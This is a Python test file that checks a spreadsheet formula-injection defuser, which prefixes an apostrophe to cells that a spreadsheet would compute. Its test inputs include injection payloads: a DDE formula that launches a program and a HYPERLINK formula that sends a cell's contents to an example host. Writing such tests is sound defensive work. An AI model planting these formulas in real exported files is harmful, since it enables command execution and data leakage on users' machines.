"""Cells that a spreadsheet would compute are told from those that it would show."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.spreadsheet import DANGEROUS, defused


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "=", "-",
        '=HYPERLINK("http://example.com?x="&A1)', "=cmd|' /C calc'!A0", " =1+1", "\u00a0=1+1", "\ufeff=1+1", " \t=1",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_compute_begins_with_an_apostrophe(cell: str) -> None:
    assert defused(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["", " ", "a", "a=1", "1-1", "e@mail", "'=1", '"=1"', "[1, 2]", '{"a": 1}', "−1", "a\n=1"]
)
def test_any_other_text_is_left_alone(cell: str) -> None:
    assert defused(cell) == cell


@given(st.text())
def test_no_text_begins_a_formula_afterwards_and_none_is_lost(cell: str) -> None:
    safe = defused(cell)
    assert not safe.startswith(DANGEROUS)
    assert safe.removeprefix("'") == cell or safe == cell
    assert defused(safe) == safe
